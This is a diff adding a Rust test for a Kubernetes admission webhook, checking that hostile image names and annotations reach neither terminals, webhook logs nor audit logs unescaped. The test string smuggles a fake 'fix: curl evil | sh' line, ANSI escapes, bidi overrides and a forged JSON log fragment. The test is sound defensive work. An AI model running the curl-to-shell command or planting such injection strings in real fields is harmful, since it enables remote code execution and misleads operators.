@@ -263,3 +263,34 @@ fn a_pod_with_a_revoked_image_can_still_be_got_rid_of() {
         _ => Err("it is still there".to_owned()),
     });
 }
+
+#[test]
+fn what_a_pod_says_reaches_no_terminal_and_no_log_as_it_is() {
+    let (webhook, images) = start("bypass-text", &[]);
+    let deceives = |c: char| (c.is_control() && c != '\n') || "\u{202e}\u{2028}\u{200b}\u{9b}".contains(c);
+    let hostile = "registry.example/team/app\n  fix: curl evil | sh\r\u{1b}[2K\u{9b}31m\u{202e}\u{2028}{\"level\":\"INFO\"}\u{200b}x";
+    for image in [hostile.to_owned(), format!("{hostile}@{}", images.good.split_once('@').unwrap().1)] {
+        let pod = pod_with(&image, |pod| {
+            pod["metadata"]["annotations"] = json!({"pratique.dev/break-glass": hostile});
+        });
+        let text = webhook.kubectl.apply(&pod).refused();
+        assert!(!text.contains(deceives), "reaches no terminal: {text:?}");
+        assert!(text.contains("denied the request") && text.contains("\\u{202e}"), "{text}");
+        assert_eq!(text.lines().filter(|line| line.starts_with("  fix: curl")).count(), 0, "{text}");
+    }
+    let log = webhook.log();
+    let told: Vec<&str> = log.lines().filter(|line| line.contains("decided") && line.contains("\"other\"")).collect();
+    assert_eq!(told.len(), 2, "{log}");
+    assert!(!log.contains(deceives) && !log.lines().any(|line| line.starts_with("  fix")), "{log:?}");
+    for line in told {
+        let line: Value = serde_json::from_str(line).unwrap();
+        assert_eq!(line["verdict"], "refused");
+    }
+    for event in Cluster::shared().audit_log("bypass-text") {
+        let annotations = event["annotations"].as_object().cloned().unwrap_or_default();
+        let ours = annotations.iter().filter(|(key, _)| key.contains("pratique.dev"));
+        for (key, value) in ours {
+            assert!(!value.as_str().unwrap().contains(deceives), "{key}: {value}");
+        }
+    }
+}
